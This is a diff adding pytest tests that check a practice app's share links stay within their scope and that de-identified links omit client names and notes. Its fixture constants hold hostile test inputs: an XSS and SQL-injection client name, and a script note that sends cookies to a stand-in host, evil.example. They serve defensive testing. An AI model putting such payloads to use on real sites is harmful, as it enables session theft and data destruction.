@@ -1,0 +1,121 @@
+"""What a share link shows stays inside its scope, and de-identified links carry no names or notes."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from datetime import date, timedelta
+
+import pandas as pd
+import pytest
+
+from core import links
+from core.content import sync_library
+from core.demo import DemoSpec, create_demo_practice
+from core.shared_dashboard import PERIODS, SharedDashboard, shared_dashboard
+from core.store import Store
+
+AS_OF = date(2025, 3, 1)
+EVIL_NAME = "<img src=x onerror=alert(1)> Robert'); DROP TABLE clients;--"
+EVIL_NOTE = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
+
+
+@pytest.fixture(scope="module")
+def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
+    with Store(tmp_path_factory.mktemp("shared") / "shared.duckdb") as s:
+        sync_library(s)
+        create_demo_practice(s, DemoSpec(clients=12, days=90, seed=3, as_of=AS_OF))
+        with s.transaction() as cur:
+            cur.execute("UPDATE clients SET display_name = ? WHERE code = 'C00002'", [EVIL_NAME])
+            cur.execute("UPDATE session_logs SET notes = ? WHERE id = (SELECT min(l.id) FROM session_logs l"
+                        " JOIN clients c ON c.id = l.client_id WHERE c.code = 'C00002' AND l.session_date > ?)",
+                        [EVIL_NOTE, AS_OF - timedelta(days=27)])
+        yield s
+
+
+def link_for(store: Store, scope: str, deidentify: bool = False) -> links.SharedLink:
+    made = links.create_link(store, "cli", scope, deidentify=deidentify, base="http://t.example")
+    return links.resolve(store, made.url.rsplit("=", 1)[1])
+
+
+def everything(board: SharedDashboard) -> str:
+    """All text a reader of the dashboard could see."""
+    parts = [board.title, *board.kpis, *board.kpis.values(), *(figure.to_json() for figure in board.charts)]
+    parts += [f"{name}\n{table.to_csv()}" for name, table in board.tables.items()]
+    return "\n".join(parts)
+
+
+def client_names(store: Store) -> dict[str, str]:
+    return dict(store.rows("SELECT code, display_name FROM clients"))
+
+
+def test_a_client_link_shows_that_client_and_nobody_else(store: Store) -> None:
+    board = shared_dashboard(store, link_for(store, "client:C00002"), AS_OF, 28)
+    assert board.title == f"Progress of {EVIL_NAME}"
+    client_id = store.scalar("SELECT id FROM clients WHERE code = 'C00002'")
+    sessions = board.tables["Sessions"]
+    expected = store.scalar("SELECT count(*) FROM session_logs WHERE client_id = ? AND session_date BETWEEN ? AND ?",
+                            [client_id, AS_OF - timedelta(days=27), AS_OF])
+    assert len(sessions) == expected > 0
+    assert EVIL_NOTE in set(sessions["Notes"])  # kept literally; the page renders it as text
+    text = everything(board)
+    others = {code: name for code, name in client_names(store).items() if code != "C00002"}
+    assert not [name for name in others.values() if name in text]
+    assert not [code for code in others if code in text]
+
+
+def test_a_deidentified_client_link_has_the_code_but_no_name_and_no_notes(store: Store) -> None:
+    board = shared_dashboard(store, link_for(store, "client:C00002", deidentify=True), AS_OF, 28)
+    assert board.title == "Progress of client C00002"
+    text = everything(board)
+    assert EVIL_NAME not in text and EVIL_NOTE not in text
+    assert "Notes" not in board.tables["Sessions"].columns
+    assert not [name for name in client_names(store).values() if name in text]
+
+
+def test_staff_only_columns_never_reach_a_shared_view(store: Store) -> None:
+    board = shared_dashboard(store, link_for(store, "client:C00001"), AS_OF, 91)
+    columns = {c for table in board.tables.values() for c in table.columns}
+    assert columns.isdisjoint({"email", "conditions", "assigned_by", "assigned_at", "override_reason",
+                               "reviewed_by", "red_flags", "client_id", "assignment_id", "Email"})
+    assert set(board.tables) == {"Sessions", "Pain response", "Programs"}
+
+
+def test_a_segment_link_lists_only_clients_of_that_segment(store: Store) -> None:
+    board = shared_dashboard(store, link_for(store, "segment:pregnant"), AS_OF, 91)
+    roster = board.tables["Clients"]
+    pregnant = {code for (code,) in store.rows(
+        "SELECT c.code FROM clients c JOIN client_segments s ON s.client_id = c.id WHERE s.segment = 'pregnant'")}
+    assert 0 < len(roster) and set(roster["Client"]) <= pregnant
+    names = client_names(store)
+    assert list(roster["Name"]) == [names[c] for c in roster["Client"]]
+    outside = [names[c] for c in names if c not in pregnant]
+    assert not [n for n in outside if n in everything(board)]
+
+
+def test_a_deidentified_segment_link_has_codes_only(store: Store) -> None:
+    board = shared_dashboard(store, link_for(store, "segment:runner", deidentify=True), AS_OF, 91)
+    assert "Name" not in board.tables["Clients"].columns
+    assert not [n for n in client_names(store).values() if n in everything(board)]
+
+
+def test_a_practice_link_is_aggregates_only(store: Store) -> None:
+    board = shared_dashboard(store, link_for(store, "practice"), AS_OF, 28)
+    assert board.title == "Practice overview"
+    assert set(board.tables) == {"By segment", "By routine", "By therapist"}
+    assert set(board.tables["By segment"]["Group"]) <= {"pregnant", "runner", "desk_worker", "other", "none"}
+    assert len(board.charts) == 3
+    text = everything(board)
+    assert not [n for n in client_names(store).values() if n in text]
+    assert not [c for c in client_names(store) if c in text]
+    clients = int(board.kpis["Clients with a program"])
+    assert clients == len(pd.unique(store.query(
+        """SELECT a.client_id FROM assignments a JOIN clients c ON c.id = a.client_id
+           WHERE c.archived_at IS NULL AND a.start_date <= ?
+             AND coalesce(a.end_date, a.start_date + 7 * a.weeks - 1) >= ?""",
+        [AS_OF, AS_OF - timedelta(days=27)])["client_id"]))
+
+
+def test_only_the_offered_periods_are_used(store: Store) -> None:
+    link = link_for(store, "practice")
+    assert shared_dashboard(store, link, AS_OF, 3660).days == PERIODS[0]
+    assert shared_dashboard(store, link, AS_OF, 91).days == 91
